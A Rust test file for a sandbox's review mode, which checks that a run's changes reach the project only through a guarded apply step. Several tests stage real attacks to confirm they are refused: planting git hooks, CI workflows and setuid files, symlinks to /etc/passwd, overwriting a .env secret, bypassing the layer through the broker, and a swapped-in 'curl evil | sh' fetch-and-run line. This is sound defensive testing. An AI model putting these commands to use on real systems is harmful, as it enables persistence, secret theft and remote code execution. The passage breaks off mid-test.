//! Review mode (`sandbox run --review`, docs/src/review.md): a run's
//! changes land in a layer of its own and reach the project only through
//! `sandbox apply`, under the host's rules. Each attack is performed for
//! real, as root and as an unprivileged user, and the project (and the
//! file outside it) is checked on the host afterwards.

mod support;

use std::io::{BufRead, BufReader, Write};
use std::os::unix::fs::{MetadataExt, PermissionsExt};
use std::process::{Output, Stdio};

use support::{assert_ok, identities, settle, Project, Who, TEST_GID, TEST_UID};

/// Whether review mode's overlay can be mounted here (unprivileged overlay
/// mounts need Linux 5.11, user xattrs on its tmpfs 6.6): probed once
/// with a trivial review run as root. Any other failure counts as
/// available, so that the test fails with it instead of skipping.
fn review_works() -> bool {
    static WORKS: std::sync::OnceLock<bool> = std::sync::OnceLock::new();
    *WORKS.get_or_init(|| {
        let project = Project::new(Who::Root);
        let state = tempfile::tempdir().unwrap();
        let out = project
            .command()
            .env("SANDBOX_STATE_DIR", state.path())
            .args(["run", "--review", "--profile", "strict", "--", "/bin/true"])
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let refused = String::from_utf8_lossy(&out.stderr).contains("mounting the review layer");
        if refused {
            eprintln!("review probe: {}", String::from_utf8_lossy(&out.stderr));
        }
        !refused
    })
}

/// The identities a review test runs as, when review mode works here.
fn review_identities(test: &str) -> Vec<Who> {
    if !support::require(
        test,
        "overlayfs over tmpfs in a user namespace",
        review_works(),
    ) {
        return Vec::new();
    }
    identities(test)
}

/// A project with a private state directory of its runner's.
struct Review {
    project: Project,
    state: tempfile::TempDir,
}

impl Review {
    fn new(who: Who) -> Review {
        let project = Project::new(who);
        let state = tempfile::tempdir().expect("state dir");
        std::fs::set_permissions(state.path(), std::fs::Permissions::from_mode(0o700)).unwrap();
        if who == Who::User && nix::unistd::geteuid().is_root() {
            std::os::unix::fs::chown(state.path(), Some(TEST_UID), Some(TEST_GID)).unwrap();
        }
        Review { project, state }
    }

    fn command(&self) -> std::process::Command {
        let mut cmd = self.project.command();
        cmd.env("SANDBOX_STATE_DIR", self.state.path());
        cmd
    }

    /// `sandbox ARGS`, stdin closed.
    fn sandbox(&self, args: &[&str]) -> Output {
        self.command()
            .args(args)
            .stdin(Stdio::null())
            .output()
            .expect("sandbox starts")
    }

    /// A review run of `script` under `strict` (plus `extra` flags); the
    /// run's output and id.
    fn run(&self, extra: &[&str], script: &str) -> (Output, String) {
        settle(self.project.path());
        let mut args = vec!["run", "--review", "--profile", "strict"];
        args.extend_from_slice(extra);
        args.extend_from_slice(&["--", "/bin/sh", "-c", script]);
        let out = self.sandbox(&args);
        let id = run_id(&String::from_utf8_lossy(&out.stderr));
        (out, id)
    }

    fn read(&self, name: &str) -> Option<String> {
        std::fs::read_to_string(self.project.path().join(name)).ok()
    }
}

/// The id in `sandbox: run ID: ...`, the line a review run ends with.
fn run_id(stderr: &str) -> String {
    stderr
        .lines()
        .find_map(|line| line.strip_prefix("sandbox: run "))
        .and_then(|rest| rest.split(':').next())
        .unwrap_or_else(|| panic!("no run id in: {stderr}"))
        .to_owned()
}

fn text(bytes: &[u8]) -> String {
    String::from_utf8_lossy(bytes).into_owned()
}

#[test]
fn a_review_run_leaves_the_project_alone_until_its_changes_are_applied() {
    for who in
        review_identities("a_review_run_leaves_the_project_alone_until_its_changes_are_applied")
    {
        let review = Review::new(who);
        let p = &review.project;
        p.write("keep.txt", "one\n");
        p.write("old.txt", "rename me\n");
        p.write("gone.txt", "bye\n");
        p.write("dir/x.txt", "x\n");
        p.write("mode.sh", "#!/bin/sh\n");
        p.write("opq/x.txt", "x\n");
        p.write("opq/same.txt", "same\n");
        let script = "echo two >> keep.txt && echo fresh > new.txt && rm gone.txt \
             && mv old.txt renamed.txt && mv dir dir2 && chmod 755 mode.sh \
             && mkdir -p made/deep && echo deep > made/deep/f && ln -s keep.txt link \
             && printf 'a\\000b' > bin.dat \
             && rm -r opq && mkdir opq && echo new > opq/a && echo same > opq/same.txt \
             && cat keep.txt";
        let (out, id) = review.run(&[], script);
        assert_ok(&out, script);
        assert_eq!(
            text(&out.stdout),
            "one\ntwo\n",
            "{who:?}: the run sees its own writes"
        );
        // Nothing reached the project.
        assert_eq!(review.read("keep.txt").as_deref(), Some("one\n"), "{who:?}");
        assert_eq!(review.read("gone.txt").as_deref(), Some("bye\n"), "{who:?}");
        assert_eq!(review.read("dir/x.txt").as_deref(), Some("x\n"), "{who:?}");
        assert!(review.read("new.txt").is_none(), "{who:?}");
        let mode = |name: &str| {
            std::fs::symlink_metadata(p.path().join(name))
                .unwrap()
                .permissions()
                .mode()
                & 0o7777
        };
        assert_eq!(mode("mode.sh"), 0o644, "{who:?}");

        let listed = review.sandbox(&["changes", &id]);
        assert_ok(&listed, "changes");
        let listed = text(&listed.stdout);
        for expected in [
            "M keep.txt",
            "+two",
            "A new.txt",
            "D gone.txt",
            "D old.txt",
            "A renamed.txt",
            "D dir ",
            "A dir2",
            "M mode.sh (file 0755",
            "A made/deep/f",
            "A link (symlink to keep.txt)",
            "A bin.dat (file 0644, 3 bytes",
            "D opq/x.txt",
            "A opq/a",
            "  binary: 0 -> 3 bytes, sha256 ",
        ] {
            assert!(
                listed.contains(expected),
                "{who:?}: {expected:?} in\n{listed}"
            );
        }
        let json = review.sandbox(&["changes", &id, "--json"]);
        assert_ok(&json, "changes --json");
        let json: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
        assert_eq!(json["run"]["id"], id.as_str());
        assert!(json["changes"]
            .as_array()
            .unwrap()
            .iter()
            .any(|c| c["path"] == "new.txt" && c["kind"] == "added"));

        // A part first, then the rest.
        let some = review.sandbox(&["apply", &id, "keep.txt"]);
        assert_ok(&some, "apply keep.txt");
        assert_eq!(
            review.read("keep.txt").as_deref(),
            Some("one\ntwo\n"),
            "{who:?}"
        );
        assert!(
            review.read("new.txt").is_none(),
            "{who:?}: only what was named"
        );
        let rest = review.sandbox(&["apply", &id]);
        assert_ok(&rest, "apply");
        assert_eq!(
            review.read("new.txt").as_deref(),
            Some("fresh\n"),
            "{who:?}"
        );
        assert!(review.read("gone.txt").is_none(), "{who:?}");
        assert!(review.read("old.txt").is_none(), "{who:?}");
        assert_eq!(
            review.read("renamed.txt").as_deref(),
            Some("rename me\n"),
            "{who:?}"
        );
        assert!(!p.path().join("dir").exists(), "{who:?}");
        assert_eq!(review.read("dir2/x.txt").as_deref(), Some("x\n"), "{who:?}");
        assert_eq!(
            review.read("made/deep/f").as_deref(),
            Some("deep\n"),
            "{who:?}"
        );
        // The directory the run removed and made again holds what the run
        // left in it, no more.
        assert!(review.read("opq/x.txt").is_none(), "{who:?}");
        assert_eq!(review.read("opq/a").as_deref(), Some("new\n"), "{who:?}");
        assert_eq!(
            review.read("opq/same.txt").as_deref(),
            Some("same\n"),
            "{who:?}"
        );
        assert_eq!(mode("mode.sh"), 0o755, "{who:?}");
        assert_eq!(
            std::fs::read_link(p.path().join("link")).unwrap(),
            std::path::Path::new("keep.txt")
        );
        // The project owner's files stay theirs.
        let owner = std::fs::metadata(p.path()).unwrap().uid();
        for name in ["new.txt", "keep.txt", "made/deep/f", "made"] {
            let meta = std::fs::symlink_metadata(p.path().join(name)).unwrap();
            assert_eq!(meta.uid(), owner, "{who:?}: {name}");
        }
        // No temporary is left beside what was written.
        let leftovers: Vec<_> = std::fs::read_dir(p.path())
            .unwrap()
            .filter_map(Result::ok)
            .filter(|e| e.file_name().to_string_lossy().contains("sandbox-apply"))
            .collect();
        assert!(leftovers.is_empty(), "{who:?}: {leftovers:?}");
        // Applied whole: the run is gone.
        assert!(
            !review.sandbox(&["changes", &id]).status.success(),
            "{who:?}"
        );
    }
}

#[test]
fn discarded_changes_never_reach_the_project() {
    for who in review_identities("discarded_changes_never_reach_the_project") {
        let review = Review::new(who);
        review.project.write("a.txt", "a\n");
        let (out, id) = review.run(&[], "echo b > a.txt && touch new");
        assert_ok(&out, "run");
        let report = review
            .state
            .path()
            .join("runs")
            .join(&id)
            .join("report.json");
        let report: serde_json::Value =
            serde_json::from_slice(&std::fs::read(report).expect("the report is kept")).unwrap();
        assert_eq!(report["run"]["id"], id.as_str(), "{who:?}");
        assert_eq!(report["run"]["changes"], 2, "{who:?}");
        let discarded = review.sandbox(&["discard", &id]);
        assert_ok(&discarded, "discard");
        assert_eq!(review.read("a.txt").as_deref(), Some("a\n"), "{who:?}");
        assert!(review.read("new").is_none(), "{who:?}");
        assert!(!review.sandbox(&["apply", &id]).status.success(), "{who:?}");
        // A run that changed nothing keeps nothing.
        let (out, id) = review.run(&[], "cat a.txt >/dev/null");
        assert_ok(&out, "reading run");
        assert!(text(&out.stderr).contains("no changes to the project, nothing kept"));
        assert!(
            !review.state.path().join("runs").join(&id).exists(),
            "{who:?}"
        );
    }
}

/// A hook, a CI workflow, a set-id file, a link out of the project, a
/// secret's name, a hard link and a write through a file hard-linked
/// outside the project: none reaches the project or the outside file.
#[test]
fn what_the_host_would_run_or_trust_is_refused_at_apply() {
    for who in review_identities("what_the_host_would_run_or_trust_is_refused_at_apply") {
        let review = Review::new(who);
        let p = &review.project;
        p.write(".env", "SECRET=1\n");
        p.write(".git/config", "[core]\n");
        p.write(".git/hooks/pre-commit.sample", "#!/bin/sh\n");
        p.write("keep.txt", "keep\n");
        // A file outside the project, hard-linked into it.
        let outside = tempfile::tempdir_in("/tmp").unwrap();
        let outside_file = outside.path().join("outside.txt");
        std::fs::write(&outside_file, "outside\n").unwrap();
        if who == Who::User && nix::unistd::geteuid().is_root() {
            std::os::unix::fs::chown(&outside_file, Some(TEST_UID), Some(TEST_GID)).unwrap();
        }
        std::fs::hard_link(&outside_file, p.path().join("linked.txt")).unwrap();
        let script = r#"
            echo '#!/bin/sh' > .git/hooks/pre-commit 2>/dev/null && echo PLANTED-HOOK
            mkdir -p sub/.git/hooks && echo evil > sub/.git/hooks/post-checkout
            mkdir -p .github/workflows && echo 'on: push' > .github/workflows/ci.yml
            echo '#!/bin/sh' > suid && chmod 4755 suid 2>/dev/null
            ln -s /etc/passwd out-link
            echo SECRET=stolen > .env 2>/dev/null && echo WROTE-ENV
            mkdir -p config && echo TOKEN=x > config/.env
            echo pwned >> linked.txt && echo WROTE-LINKED
            ln keep.txt hard-copy
            echo fine > ok.txt
            true
        "#;
        let (out, id) = review.run(&[], script);
        assert_ok(&out, "attack run");
        let said = text(&out.stdout);
        assert!(!said.contains("PLANTED-HOOK"), "{who:?}: {said}");
        assert!(!said.contains("WROTE-ENV"), "{who:?}: {said}");
        // The write through the hard link copied the file up into the
        // layer: the file outside is untouched.
        assert!(said.contains("WROTE-LINKED"), "{who:?}: {said}");
        assert_eq!(std::fs::read_to_string(&outside_file).unwrap(), "outside\n");

        let json = review.sandbox(&["changes", &id, "--json"]);
        assert_ok(&json, "changes --json");
        let json: serde_json::Value = serde_json::from_slice(&json.stdout).unwrap();
        let suid_kept = json["changes"].as_array().unwrap().iter().any(|c| {
            c["path"] == "suid" && c["after"]["mode"].as_u64().is_some_and(|m| m & 0o4000 != 0)
        });

        let refused = review.sandbox(&["apply", &id]);
        assert_eq!(refused.status.code(), Some(1), "{who:?}");
        let why = text(&refused.stderr);
        for (path, flag) in [
            ("sub/.git/hooks/post-checkout", "--allow-protected"),
            (".github/workflows/ci.yml", "--allow-ci"),
            ("out-link", "--allow-outside-links"),
            ("config/.env", "--allow-secrets"),
            ("hard-copy", "--allow-hardlinks"),
        ] {
            assert!(
                why.lines().any(|l| l.contains(path) && l.contains(flag)),
                "{who:?}: {path} with {flag} in\n{why}"
            );
        }
        if suid_kept {
            assert!(
                why.contains("suid") && why.contains("--allow-setid"),
                "{why}"
            );
        }
        // Nothing at all was applied.
        for name in [
            "ok.txt",
            "out-link",
            "suid",
            "config",
            "sub",
            ".github",
            "hard-copy",
        ] {
            assert!(
                std::fs::symlink_metadata(p.path().join(name)).is_err(),
                "{who:?}: {name} applied"
            );
        }
        assert_eq!(review.read(".env").as_deref(), Some("SECRET=1\n"));
        assert!(!p.path().join(".git/hooks/pre-commit").exists());

        // What is allowed goes in; the hard-linked file becomes a file of
        // its own and the outside one stays as it was.
        let some = review.sandbox(&["apply", &id, "ok.txt", "linked.txt"]);
        assert_ok(&some, "apply ok.txt linked.txt");
        assert_eq!(review.read("ok.txt").as_deref(), Some("fine\n"));
        assert_eq!(
            review.read("linked.txt").as_deref(),
            Some("outside\npwned\n")
        );
        assert_eq!(std::fs::read_to_string(&outside_file).unwrap(), "outside\n");
        assert_eq!(std::fs::metadata(&outside_file).unwrap().nlink(), 1);
        let discarded = review.sandbox(&["discard", &id]);
        assert_ok(&discarded, "discard");
    }
}

/// A file the host changes while the run is going is a conflict: apply
/// refuses it and the host's version stays.
#[test]
fn a_file_changed_on_the_host_during_the_run_is_a_conflict() {
    for who in review_identities("a_file_changed_on_the_host_during_the_run_is_a_conflict") {
        let review = Review::new(who);
        review.project.write("a.txt", "base\n");
        settle(review.project.path());
        let mut child = review
            .command()
            .args([
                "run",
                "--review",
                "--profile",
                "strict",
                "--",
                "/bin/sh",
                "-c",
            ])
            .arg("echo run >> a.txt && echo run-b > b.txt && echo ready && read go")
            .stdin(Stdio::piped())
            .stdout(Stdio::piped())
            .stderr(Stdio::piped())
            .spawn()
            .expect("sandbox starts");
        let mut lines = BufReader::new(child.stdout.take().unwrap()).lines();
        assert_eq!(lines.next().unwrap().unwrap(), "ready", "{who:?}");
        // The host's edits, while the run waits.
        std::fs::write(review.project.path().join("a.txt"), "host\n").unwrap();
        std::fs::write(review.project.path().join("b.txt"), "host-b\n").unwrap();
        child.stdin.take().unwrap().write_all(b"go\n").unwrap();
        let out = child.wait_with_output().unwrap();
        assert!(out.status.success(), "{who:?}: {}", text(&out.stderr));
        let id = run_id(&text(&out.stderr));

        let refused = review.sandbox(&["apply", &id]);
        assert_eq!(refused.status.code(), Some(1), "{who:?}");
        let why = text(&refused.stderr);
        assert!(why.contains("a.txt: conflict"), "{who:?}: {why}");
        assert!(why.contains("b.txt: conflict"), "{who:?}: {why}");
        assert_eq!(review.read("a.txt").as_deref(), Some("host\n"), "{who:?}");
        assert_eq!(review.read("b.txt").as_deref(), Some("host-b\n"), "{who:?}");
    }
}

/// A directory of the project replaced by a symlink after the run is not
/// followed by apply: the file it led to outside stays as it was.
#[test]
fn apply_follows_no_symlink_planted_in_the_project() {
    for who in review_identities("apply_follows_no_symlink_planted_in_the_project") {
        let review = Review::new(who);
        review.project.write("sub/f.txt", "old\n");
        // Made before the run, so that only the link, not a change time,
        // can tell apply that it is not the project's file.
        let victim = tempfile::tempdir_in("/tmp").unwrap();
        std::fs::write(victim.path().join("f.txt"), "victim\n").unwrap();
        settle(victim.path());
        let (out, id) = review.run(&[], "echo new > sub/f.txt");
        assert_ok(&out, "run");
        let sub = review.project.path().join("sub");
        std::fs::remove_dir_all(&sub).unwrap();
        std::os::unix::fs::symlink(victim.path(), &sub).unwrap();
        let refused = review.sandbox(&["apply", &id]);
        assert_eq!(refused.status.code(), Some(1), "{who:?}");
        assert!(
            text(&refused.stderr).contains("sub/f.txt: conflict"),
            "{who:?}"
        );
        assert_eq!(
            std::fs::read_to_string(victim.path().join("f.txt")).unwrap(),
            "victim\n",
            "{who:?}"
        );
    }
}

/// The layer's size limit holds while the run writes, and a run that
/// reached it is not applied unless the person says so.
#[test]
fn a_run_that_fills_its_layer_says_so_and_is_not_applied_silently() {
    for who in review_identities("a_run_that_fills_its_layer_says_so_and_is_not_applied_silently") {
        let review = Review::new(who);
        let profile = review.project.write(
            "small.toml",
            "version = 1\nextends = \"strict\"\n[filesystem]\nreview = true\nreview_size = \"1MiB\"\n",
        );
        let out = review.sandbox(&[
            "run",
            "--profile",
            profile.to_str().unwrap(),
            "--",
            "/bin/sh",
            "-c",
            "dd if=/dev/zero of=big bs=64k count=64 2>/dev/null; echo dd=$?",
        ]);
        assert_ok(&out, "filling run");
        assert!(
            text(&out.stdout).contains("dd=1"),
            "{who:?}: the write failed inside"
        );
        let stderr = text(&out.stderr);
        assert!(stderr.contains("filled its layer"), "{who:?}: {stderr}");
        let id = run_id(&stderr);
        let refused = review.sandbox(&["apply", &id]);
        assert_eq!(refused.status.code(), Some(1), "{who:?}");
        assert!(text(&refused.stderr).contains("--allow-incomplete"));
        assert!(review.read("big").is_none(), "{who:?}");
        let size = std::fs::metadata(review.state.path().join("runs").join(&id).join("layer/big"))
            .map(|m| m.len())
            .unwrap_or(0);
        assert!(size <= 1 << 20, "{who:?}: {size} bytes kept");
    }
}

#[test]
fn review_mode_without_namespaces_is_refused_with_its_cause_and_fix() {
    let project = Project::new(Who::Root);
    let state = tempfile::tempdir().unwrap();
    let profile = project.write(
        "off.toml",
        "version = 1\nextends = \"strict\"\n[enforce]\nuserns = \"off\"\n",
    );
    let out = project
        .command()
        .env("SANDBOX_STATE_DIR", state.path())
        .args([
            "run",
            "--review",
            "--profile",
            profile.to_str().unwrap(),
            "--",
            "/bin/true",
        ])
        .stdin(Stdio::null())
        .output()
        .unwrap();
    assert!(!out.status.success());
    let stderr = text(&out.stderr);
    assert!(
        stderr.contains("review mode needs the run's own user and mount namespaces"),
        "{stderr}"
    );
    assert!(stderr.contains("enforce.userns"), "{stderr}");
    assert!(stderr.contains("run without review mode"), "{stderr}");
    let kept = std::fs::read_dir(state.path().join("runs")).map_or(0, |d| d.count());
    assert_eq!(kept, 0, "a refused run keeps nothing");
}

/// Root reviewing and applying on a project another user owns (a CI
/// workspace sandboxed by root): what apply writes stays that user's.
#[test]
fn a_root_apply_keeps_the_project_owners_ownership() {
    let test = "a_root_apply_keeps_the_project_owners_ownership";
    if !support::require(
        test,
        "root (to make a project owned by another uid)",
        nix::unistd::geteuid().is_root(),
    ) || !support::require_root_sandbox(test)
        || !support::require(
            test,
            "overlayfs over tmpfs in a user namespace",
            review_works(),
        )
    {
        return;
    }
    // Made by the unprivileged identity, run on by root.
    let owned = Project::new(Who::User);
    owned.write("keep.txt", "one\n");
    owned.write("sub/in.txt", "in\n");
    let state = tempfile::tempdir().unwrap();
    settle(owned.path());
    let sandbox = |args: &[&str]| {
        std::process::Command::new(support::sandbox_bin())
            .args(args)
            .current_dir(owned.path())
            .env("SANDBOX_STATE_DIR", state.path())
            .stdin(Stdio::null())
            .output()
            .unwrap()
    };
    let out = sandbox(&[
        "run",
        "--review",
        "--profile",
        "strict",
        "--",
        "/bin/sh",
        "-c",
        "echo two >> keep.txt && echo new > new.txt && mkdir made && echo m > made/f && echo x > sub/in.txt",
    ]);
    assert_ok(&out, "root's review run");
    let id = run_id(&text(&out.stderr));
    let applied = sandbox(&["apply", &id]);
    assert_ok(&applied, "root's apply");
    for name in ["keep.txt", "new.txt", "made", "made/f", "sub/in.txt"] {
        let meta = std::fs::symlink_metadata(owned.path().join(name)).unwrap();
        assert_eq!((meta.uid(), meta.gid()), (TEST_UID, TEST_GID), "{name}");
    }
    assert_eq!(
        std::fs::read_to_string(owned.path().join("keep.txt")).unwrap(),
        "one\ntwo\n"
    );
}

/// Killing `sandbox apply` while it writes a large file leaves the project
/// with the old file or the new one whole, and no temporary beside it.
#[test]
fn an_interrupted_apply_leaves_no_partial_file() {
    let test = "an_interrupted_apply_leaves_no_partial_file";
    if !support::require_root_sandbox(test)
        || !support::require(
            test,
            "overlayfs over tmpfs in a user namespace",
            review_works(),
        )
    {
        return;
    }
    let review = Review::new(Who::Root);
    review.project.write("big.bin", "old\n");
    const SIZE: u64 = 128 << 20;
    let (out, id) = review.run(
        &[],
        "dd if=/dev/zero of=big.bin bs=1M count=128 2>/dev/null && echo written",
    );
    assert_ok(&out, "run");
    let mut apply = review
        .command()
        .args(["apply", &id])
        .stdin(Stdio::null())
        .stdout(Stdio::null())
        .stderr(Stdio::null())
        .spawn()
        .unwrap();
    // Killed as soon as it holds the unnamed file it writes into.
    let fds = format!("/proc/{}/fd", apply.id());
    let project = review.project.path().to_string_lossy().into_owned();
    let mut caught = false;
    while apply.try_wait().unwrap().is_none() {
        let writing = std::fs::read_dir(&fds)
            .into_iter()
            .flatten()
            .flatten()
            .any(|fd| {
                std::fs::read_link(fd.path()).is_ok_and(|target| {
                    target
                        .to_string_lossy()
                        .starts_with(&format!("{project}/#"))
                })
            });
        if writing {
            let _ = nix::sys::signal::kill(
                nix::unistd::Pid::from_raw(apply.id() as i32),
                nix::sys::signal::Signal::SIGKILL,
            );
            caught = true;
            break;
        }
    }
    let _ = apply.wait();
    // Busy polling catches a write of this size on any machine; a loaded
    // one only makes the write slower.
    assert!(caught, "the apply ended before it could be interrupted");
    let size = std::fs::metadata(review.project.path().join("big.bin"))
        .unwrap()
        .len();
    assert!(size == 4 || size == SIZE, "a partial file of {size} bytes");
    let names: Vec<String> = std::fs::read_dir(review.project.path())
        .unwrap()
        .filter_map(Result::ok)
        .map(|e| e.file_name().to_string_lossy().into_owned())
        .filter(|n| n != "big.bin")
        .collect();
    assert!(names.is_empty(), "left beside it: {names:?}");
    // The run still keeps its change: nothing was applied.
    assert_eq!(size, 4);
    let again = review.sandbox(&["apply", &id]);
    assert_ok(&again, "apply after the interruption");
    let size = std::fs::metadata(review.project.path().join("big.bin"))
        .unwrap()
        .len();
    assert_eq!(size, SIZE);
}

/// The broker writes the project from outside the run, so in review mode
/// its `fs.write`, `fs.mkdir` and `fs.delete` would reach the project with
/// nobody accepting them. Until the fix, a granted `fs.write` of a review
/// run rewrote the project's file at once.
#[test]
fn the_brokers_writes_cannot_go_around_the_layer() {
    for who in review_identities("the_brokers_writes_cannot_go_around_the_layer") {
        let review = Review::new(who);
        let p = &review.project;
        p.write("notes.txt", "orig\n");
        p.write("old.txt", "old\n");
        let root = env!("CARGO_MANIFEST_DIR");
        p.write(
            "sandbox_ipc.py",
            &std::fs::read_to_string(format!("{root}/clients/python/sandbox_ipc.py")).unwrap(),
        );
        p.write(
            "attack.py",
            "import sys, sandbox_ipc\nsys.dont_write_bytecode = True\nc = sandbox_ipc.connect()\n\
             for call in (lambda: c.fs.write('notes.txt', 'via broker'),\n\
                          lambda: c.fs.write('planted.txt', 'x'),\n\
                          lambda: c.fs.mkdir('made'),\n\
                          lambda: c.fs.delete('old.txt')):\n\
             \x20   try:\n        call()\n        print('SERVED')\n\
             \x20   except sandbox_ipc.SandboxError as e:\n        print('REFUSED', e.code, e.message)\n",
        );
        let (out, _id) = review.run(
            &[
                "--grant",
                "fs.write",
                "--grant",
                "fs.mkdir",
                "--grant",
                "fs.delete",
            ],
            "python3 -B attack.py",
        );
        assert_ok(&out, "the broker's writes in review mode");
        let said = text(&out.stdout);
        assert!(!said.contains("SERVED"), "{who:?}: {said}");
        assert_eq!(said.matches("REFUSED -32001").count(), 4, "{who:?}: {said}");
        assert!(said.contains("review mode"), "{said}");
        assert_eq!(review.read("notes.txt").as_deref(), Some("orig\n"));
        assert_eq!(review.read("old.txt").as_deref(), Some("old\n"));
        assert!(!p.path().join("planted.txt").exists());
        assert!(!p.path().join("made").exists());
    }
}

/// The supervisor walks a review run's layer after the run, and the
/// payload decides how deep it is: until the fix, a few thousand nested
/// directories overflowed the supervisor's stack (it aborted, and the
/// run ended with no report). Now the run ends normally, keeps nothing
/// and says why; the project is untouched.
#[test]
fn nesting_directories_past_the_bound_cannot_crash_the_supervisor() {
    for who in review_identities("nesting_directories_past_the_bound_cannot_crash_the_supervisor") {
        let review = Review::new(who);
        let p = &review.project;
        p.write("notes.txt", "orig\n");
        let (out, _) = review.run(
            &[],
            "python3 -c \"import os\nfor _ in range(3000):\n    os.mkdir('d'); os.chdir('d')\nprint('NESTED')\"; echo changed > notes.txt",
        );
        let said = text(&out.stdout);
        let stderr = text(&out.stderr);
        assert!(said.contains("NESTED"), "{who:?}: {said} {stderr}");
        assert_eq!(out.status.code(), Some(0), "{who:?}: {stderr}");
        assert!(
            stderr.contains("deeper than 256 levels (below d)"),
            "{who:?}: {stderr}"
        );
        assert!(!stderr.contains("overflow"), "{stderr}");
        assert_eq!(review.read("notes.txt").as_deref(), Some("orig\n"));
        assert!(!p.path().join("d").exists());
        let listed = review.sandbox(&["changes", "--list"]);
        assert!(
            text(&listed.stdout).trim().is_empty(),
            "{who:?}: kept {:?}",
            text(&listed.stdout)
        );
    }
}

/// Two links that each read as inside the project: `root -> ../..` (a
/// dozen levels down, the project root) and `pw -> root/../../etc/passwd`.
/// Together they lead to /etc/passwd. Until the fix, apply judged each
/// link's text alone and wrote both without --allow-outside-links; a link
/// into a real directory of the project still applies.
#[test]
fn links_that_lead_out_only_together_are_refused_at_apply() {
    for who in review_identities("links_that_lead_out_only_together_are_refused_at_apply") {
        let review = Review::new(who);
        let p = &review.project;
        p.write("docs/index.md", "docs\n");
        let up = "../".repeat(12);
        let script = format!(
            "d=l/l/l/l/l/l/l/l/l/l/l/l; mkdir -p $d; ln -s {up} $d/root; \
             ln -s root/{up}../etc/passwd $d/pw; ln -s $d/pw passwd-link; ln -s docs docs-link"
        );
        let (out, id) = review.run(&[], &script);
        assert_ok(&out, "the linking run");
        let refused = review.sandbox(&["apply", &id]);
        assert_eq!(
            refused.status.code(),
            Some(1),
            "{who:?}: {}",
            text(&refused.stdout)
        );
        let why = text(&refused.stderr);
        for path in ["l/l/l/l/l/l/l/l/l/l/l/l/pw", "passwd-link"] {
            assert!(
                why.lines().any(|l| l.starts_with(&format!("  {path}: "))
                    && l.contains("passes through the symlink")
                    && l.contains("--allow-outside-links")),
                "{who:?}: {path} in\n{why}"
            );
        }
        assert!(std::fs::symlink_metadata(p.path().join("passwd-link")).is_err());
        assert!(!p.path().join("l").exists());
        let benign = review.sandbox(&["apply", &id, "docs-link"]);
        assert_ok(&benign, "a link into the project's own directory");
        assert_eq!(
            std::fs::read_link(p.path().join("docs-link")).unwrap(),
            std::path::Path::new("docs")
        );
    }
}

/// A run replaced a directory by a file; the person then edits a file in
/// that directory on the host. Until the fix, apply removed the directory
/// with the edit in it, no conflict said, and the listing never said a
/// directory would go.
#[test]
fn a_directory_replaced_by_a_file_is_checked_like_a_deletion() {
    for who in review_identities("a_directory_replaced_by_a_file_is_checked_like_a_deletion") {
        let review = Review::new(who);
        let p = &review.project;
        p.write("d/notes.txt", "v1\n");
        let (out, id) = review.run(&[], "rm -rf d && echo replaced > d");
        assert_ok(&out, "the replacing run");
        let listed = review.sandbox(&["changes", &id]);
        assert!(
            text(&listed.stdout).contains("replacing a directory and everything in it"),
            "{who:?}: {}",
            text(&listed.stdout)
        );
        std::fs::write(p.path().join("d/notes.txt"), "the person's v2\n").unwrap();
        let refused = review.sandbox(&["apply", &id]);
        assert_eq!(refused.status.code(), Some(1), "{who:?}");
        let why = text(&refused.stderr);
        assert!(
            why.contains("d/notes.txt: conflict: changed in the project since the run started"),
            "{who:?}: {why}"
        );
        assert_eq!(
            review.read("d/notes.txt").as_deref(),
            Some("the person's v2\n")
        );
    }
}

/// What `sandbox changes` showed is what apply writes: content kept in
/// the store and changed after the run (rewritten, or swapped for a link
/// to a secret) is refused, never written into the project.
#[test]
fn kept_content_changed_after_the_run_is_not_applied() {
    for who in review_identities("kept_content_changed_after_the_run_is_not_applied") {
        for swap in ["rewrite", "link"] {
            let review = Review::new(who);
            let p = &review.project;
            let (out, id) = review.run(&[], "echo 'echo harmless' > tool.sh");
            assert_ok(&out, "the run");
            let kept = review
                .state
                .path()
                .join("runs")
                .join(&id)
                .join("layer/tool.sh");
            assert!(kept.exists(), "{who:?}: {kept:?}");
            std::fs::remove_file(&kept).unwrap();
            let secret = review.state.path().join("secret-key");
            std::fs::write(&secret, "PRIVATE KEY\n").unwrap();
            if swap == "rewrite" {
                std::fs::write(&kept, "curl evil | sh\n").unwrap();
            } else {
                std::os::unix::fs::symlink(&secret, &kept).unwrap();
            }
            let refused = review.sandbox(&["apply", &id]);
            assert_ne!(refused.status.code(), Some(0), "{who:?} {swap}");
            let why = text(&refused.stderr);
            assert!(
                why.contains("is not what the run wrote"),
                "{who:?} {swap}: {why}"
            );
            assert!(
                !p.path().join("tool.sh").exists(),
                "{who:?} {swap}: written"
            );
        }
    }
}

/// A review store inside the project (a state directory there) could be
/// rewritten by a later direct run, records and content alike, before the
/// person applies it: review mode refuses to keep changes there.
#[test]
fn a_review_store_runs_can_write_is_refused() {
    for who in review_identities("a_review_store_runs_can_write_is_refused") {
        let review = Review::new(who);
        let p = &review.project;
        let inside = p.path().join(".state");
        std::fs::create_dir(&inside).unwrap();
        if who == Who::User && nix::unistd::geteuid().is_root() {
            std::os::unix::fs::chown(&inside, Some(TEST_UID), Some(TEST_GID)).unwrap();
        }
        let out = review
            .command()
            .env("SANDBOX_STATE_DIR", &inside)
            .args([
                "run",
                "--review",
                "--profile",
                "strict",
                "--",
                "/bin/sh",
                "-c",
                "echo x > f",
            ])
            .stdin(Stdio::null())
            .output()
            .unwrap();
        let stderr = text(&out.stderr);
        assert_eq!(out.status.code(), Some(125), "{who:?}: {stderr}");
        assert!(
            stderr.contains("Set SANDBOX_STATE_DIR"),
            "{who:?}: {stderr}"
        );
        assert!(!p.path().join("f").exists());
        assert!(!inside.join("runs").exists(), "{who:?}: something was kept");
    }
}

/// A sparse file takes no block of the layer and reads as its whole size:
/// until the fix, capture copied two sparse files of 2 GiB each into the
/// store (4 GiB of disk from a 512 MiB layer). What is kept is now bounded
/// by the layer's limit, and past it nothing is kept.
#[test]
fn sparse_files_cannot_make_the_store_outgrow_the_layer() {
    for who in review_identities("sparse_files_cannot_make_the_store_outgrow_the_layer") {
        let review = Review::new(who);
        let profile = review.project.write(
            "small.toml",
            "version = 1\nextends = \"strict\"\n[filesystem]\nreview = true\nreview_size = \"1MiB\"\n",
        );
        let out = review.sandbox(&[
            "run",
            "--profile",
            profile.to_str().unwrap(),
            "--",
            "/bin/sh",
            "-c",
            "truncate -s 8M a.bin && truncate -s 8M b.bin && echo made",
        ]);
